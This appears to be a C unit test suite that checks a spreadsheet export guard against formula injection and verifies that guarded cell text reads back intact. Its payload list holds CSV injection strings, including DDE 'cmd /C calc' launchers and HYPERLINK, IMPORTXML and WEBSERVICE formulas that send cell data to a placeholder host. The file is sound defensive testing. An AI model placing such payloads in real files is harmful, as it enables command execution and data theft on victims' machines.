/* The guard against formulas, both ways: no cell that is written for a spreadsheet is one that it
 * would run, and every text that was guarded comes home as it was. */
#include "given.h"

#include <fcntl.h>
#include <unistd.h>

#include "exchange/inner.h"

/* What attackers put into cells, and what people write that looks like it. */
static const char *const payloads[] = {"=1+1", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0",
	"-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "=HYPERLINK(\"http://x/?\"&A1,\"xem\")",
	"=IMPORTXML(CONCAT(\"http://x/\",A1),\"//a\")", "=DDE(\"cmd\";\"/C calc\";\"x\")",
	"=WEBSERVICE(\"http://x\")", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "  =1+1",
	"\xC2\xA0=1+1", "\xE3\x80\x80=1+1", "\xE2\x80\x8B=1+1", "\xEF\xBB\xBF=1+1",
	"\xEF\xBC\x9D" "1+1", "\xEF\xBC\x8B" "1", "\xEF\xBC\x8D" "x", "\xEF\xBC\xA0" "x", "'=1+1",
	"''=1+1", "'", "''", "'a", "=", "+", "@", "- chưa nộp", "+ đã họp", "@bch", "+84 901 234 567",
	"=\"072\"", "=\"a\"\"b\"", "=\"a\"&cmd|'/C calc'!A0&\"b\"", "=\"\"", "=\"=1\"", "'=\"072\"",
	"a=1", "1-2", "a\n=1", "a\r=1", "x;=1", "x,=1", "\"=1", "\"\"=1", "x\",=1", "%0A-3+3+cmd|x",
	"\\=1", "' =1", "'\xC2\xA0=1", "' '=1", "=A1\n=A2", "-5", "+5", "-", "-5a", "+5%"};
#define PAYLOADS (sizeof payloads / sizeof payloads[0])

static int temporary(void)
{
	char path[] = "/tmp/tiendo-guard-XXXXXX";
	int fd = mkstemp(path);

	assert_true(fd >= 0);
	unlink(path);
	return fd;
}

static char *bytes_of(int fd, size_t *length)
{
	off_t end = lseek(fd, 0, SEEK_END);
	char *bytes = calloc(1, (size_t)end + 1);

	assert_int_equal(pread(fd, bytes, (size_t)end, 0), end);
	close(fd);
	*length = (size_t)end;
	return bytes;
}

/* What a spreadsheet looks at: the text behind blanks and its first letter. */
static bool would_run(const char *cell)
{
	static const char *const blanks[] = {" ", "\n", "\v", "\xC2\xA0", "\xE3\x80\x80", "\xE2\x80\x8B",
		"\xEF\xBB\xBF"};
	static const char *const signs[] = {"=", "+", "-", "@", "\t", "\r", "\xEF\xBC\x9D",
		"\xEF\xBC\x8B", "\xEF\xBC\x8D", "\xEF\xBC\xA0"};
	size_t number = strspn(cell, "+-"), wrapped = strncmp(cell, "=\"", 2) == 0 ? 2 : 0;

	/* A plain number, a dash alone, plain letters in ="…" are run by nobody. */
	if (number == 1 && cell[1 + strspn(cell + 1, "0123456789")] == '\0')
		return false;
	if (wrapped && !strpbrk(cell + 2, "&|!(=+@"))
		return false;
	for (size_t i = 0; i < sizeof blanks / sizeof blanks[0]; i++)
		if (strncmp(cell, blanks[i], strlen(blanks[i])) == 0)
			return would_run(cell + strlen(blanks[i]));
	for (size_t i = 0; i < sizeof signs / sizeof signs[0]; i++)
		if (strncmp(cell, signs[i], strlen(signs[i])) == 0)
			return true;
	return false;
}

/* Every cell of the file, read by RFC 4180 alone. */
static size_t count_that_run(const char *at, char separator)
{
	size_t found = 0;

	while (*at) {
		struct buffer cell = {0};
		bool quoted = *at == '"';

		at += quoted;
		while (*at && !(quoted ? at[0] == '"' && at[1] != '"' : *at == separator || *at == '\r')) {
			buffer_bytes(&cell, at, 1);
			at += quoted && *at == '"' ? 2 : 1;
		}
		at += quoted;
		assert_true(!*at || *at == separator || strncmp(at, "\r\n", 2) == 0);
		at += *at == separator ? 1 : *at ? 2 : 0;
		if (would_run(buffer_text(&cell))) {
			print_message("would run: \"%s\"\n", buffer_text(&cell));
			found++;
		}
		buffer_free(&cell);
	}
	return found;
}

static const struct sheet_style styles[] = {
	{.dialect = DIALECT_SPREADSHEET, .separator = ','},
	{.dialect = DIALECT_SPREADSHEET, .separator = ';', .iso_dates = true},
	{.dialect = DIALECT_SPREADSHEET, .separator = '\t'},
	{.dialect = DIALECT_MACHINE, .separator = ','}};

/* Writes the texts as notes, titles and codes of plans, reads them, compares what comes home with
 * what left. `home` says how a text may come home: reading takes blanks around a text away. */
static void assert_column_comes_home(const char *name, const char *const *texts, size_t count,
	const struct sheet_style *style)
{
	const struct sheet_format *format = sheet_format(SHEET_PLAN);
	const struct column *column = &format->columns[sheet_column(format, name)];
	struct sheet_options options = {.encoding = "UTF-8", .separator = style->separator};
	struct sheet_writer *writer;
	struct given given;
	size_t length;
	int fd = temporary();
	char *bytes;

	writer_open(&writer, fd, style);
	writer_heading(writer, "type");
	writer_heading(writer, "code");
	writer_heading(writer, name);
	writer_end_row(writer);
	for (size_t i = 0; i < count; i++) {
		char code[32];

		snprintf(code, sizeof code, "C%zu", i);
		writer_cell(writer, &format->columns[0], "task");
		writer_cell(writer, &format->columns[1], code);
		writer_cell(writer, column, texts[i]);
		writer_end_row(writer);
	}
	assert_true(writer_close(writer, NULL));
	bytes = bytes_of(fd, &length);
	if (style->dialect == DIALECT_SPREADSHEET)
		assert_int_equal(count_that_run(bytes + 3, style->separator), 0);
	given_bytes(&given, SHEET_PLAN, bytes, length, &options);
	assert_non_null(given.sheet);
	assert_int_equal(given.sheet->row_count, count);
	for (size_t i = 0; i < count; i++)
		if (strcmp(given_cell(&given, i, name), texts[i]) != 0)
			fail_msg("%s: \"%s\" came home as \"%s\"", name, texts[i],
				given_cell(&given, i, name));
	given_free(&given);
	free(bytes);
}

/* A text as the database has it: it came through the reader once, in the machine's dialect or any. */
static const char *as_kept(const char *name, const char *text, struct pool *pool)
{
	const struct sheet_format *format = sheet_format(SHEET_PLAN);
	struct cell_context context = {.pool = pool};
	struct fault why;
	const char *kept;
	struct buffer lines = {0};

	for (; *text; text++) /* ends of lines in cells are \n */
		buffer_bytes(&lines, *text == '\r' ? "\n" : text, 1);
	text = text_normalised(buffer_text(&lines), lines.length, pool);
	buffer_free(&lines);
	cell_take(&format->columns[sheet_column(format, name)], text, &context, &kept, &why);
	return kept;
}

static void payloads_are_guarded_and_come_home(void **state)
{
	static const char *const names[] = {"note", "title", "target"};
	struct pool pool = {0};

	(void)state;
	for (size_t j = 0; j < sizeof names / sizeof names[0]; j++) {
		const char *texts[PAYLOADS];

		for (size_t i = 0; i < PAYLOADS; i++)
			texts[i] = as_kept(names[j], payloads[i], &pool);
		for (size_t i = 0; i < sizeof styles / sizeof styles[0]; i++)
			assert_column_comes_home(names[j], texts, PAYLOADS, &styles[i]);
	}
	pool_free(&pool);
}

static void any_text_is_tame_and_comes_home(void **state)
{
	static const char *const pieces[] = {"'", "'", "=", "+", "-", "@", "\"", "\"", ",", ";", "\n",
		" ", "a", "ệ", "1", "\t", "\xCC\x81", "\xC2\xA0", "|", "&", "!", "(", "\xE2\x80\x8B",
		"\xEF\xBC\x9D", "\xEF\xBC\x8B", "\xEF\xBC\xA0", "\xE3\x80\x80", "\xEF\xBB\xBF", "\033[",
		"\xC2\x9B", "\xE2\x80\xAE", "\v", "\f", "cmd"};
	enum { TEXTS = 4000 };
	static const char *texts[TEXTS];
	struct pool pool = {0};
	uint32_t seed = 26032026;

	(void)state;
	for (size_t round = 0; round < 6; round++) {
		const char *name = round % 2 ? "title" : "note";

		for (size_t i = 0; i < TEXTS; i++) {
			struct buffer text = {0};

			for (size_t length = 1 + i % 9; length > 0; length--) {
				seed = seed * 1664525 + 1013904223;
				buffer_add(&text,
					pieces[(seed >> 16) % (sizeof pieces / sizeof pieces[0])]);
			}
			texts[i] = as_kept(name, buffer_text(&text), &pool);
			buffer_free(&text);
		}
		for (size_t i = 0; i < sizeof styles / sizeof styles[0]; i++)
			assert_column_comes_home(name, texts, TEXTS, &styles[i]);
	}
	pool_free(&pool);
}

/* Headings carry titles of numbers; rejects carry whatever came. */
static void headings_and_rejects_are_tame_too(void **state)
{
	(void)state;
	for (size_t i = 0; i < 3; i++) {
		struct sheet_writer *writer;
		int fd = temporary();
		size_t length;
		char *bytes;

		writer_open(&writer, fd, &styles[i]);
		for (size_t j = 0; j < PAYLOADS; j++)
			writer_heading(writer, payloads[j]);
		writer_end_row(writer);
		for (size_t j = 0; j < PAYLOADS; j++)
			writer_cell(writer, NULL, payloads[j]);
		writer_end_row(writer);
		assert_true(writer_close(writer, NULL));
		bytes = bytes_of(fd, &length);
		assert_int_equal(count_that_run(bytes + 3, styles[i].separator), 0);
		free(bytes);
	}
}

/* What a rejected cell reads as is what it read as in the first place, in every kind of column. */
static void a_rejected_cell_reads_as_before(void **state)
{
	static const char *const names[] = {"note", "title", "code", "before", "rev"};
	const struct sheet_format *format = sheet_format(SHEET_PLAN);
	struct pool pool = {0};

	(void)state;
	for (size_t j = 0; j < PAYLOADS * 5; j++) {
		const struct column *column = &format->columns[sheet_column(format, names[j % 5])];
		const char *payload = payloads[j / 5], *before, *after;
		struct cell_context context = {.pool = &pool};
		struct sheet_writer *writer;
		struct fault why;
		int fd = temporary();
		size_t length;
		char *bytes, *cell;
		struct buffer bare = {0};

		writer_open(&writer, fd, &styles[0]);
		writer_cell(writer, NULL, payload);
		writer_end_row(writer);
		assert_true(writer_close(writer, NULL));
		bytes = bytes_of(fd, &length);
		for (cell = bytes + 4; strcmp(cell, "\"\r\n") != 0; cell += cell[0] == '"' ? 2 : 1)
			buffer_bytes(&bare, cell, 1);
		cell_take(column, payload, &context, &before, &why);
		cell_take(column, buffer_text(&bare), &context, &after, &why);
		if (strcmp(before, after) != 0)
			fail_msg("%s: \"%s\" reads as \"%s\", rejected as \"%s\"", names[j % 5], payload,
				before, after);
		buffer_free(&bare);
		free(bytes);
	}
	pool_free(&pool);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(payloads_are_guarded_and_come_home),
		cmocka_unit_test(any_text_is_tame_and_comes_home),
		cmocka_unit_test(headings_and_rejects_are_tame_too),
		cmocka_unit_test(a_rejected_cell_reads_as_before),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
